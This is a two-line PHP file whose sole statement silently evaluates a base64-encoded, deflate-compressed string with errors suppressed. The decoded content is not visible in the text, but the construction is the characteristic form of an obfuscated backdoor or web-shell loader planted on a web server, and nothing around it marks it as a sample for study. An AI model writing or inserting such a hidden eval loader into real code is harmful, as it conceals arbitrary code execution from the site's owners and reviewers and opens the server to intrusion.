<?php
@eval(gzinflate(base64_decode('S03OyFdQL0hMzk5NUShIrMzJT0xRULdWUKlQsFUwMVDQVjCyVkgFKVKpgDKGvWoA')));
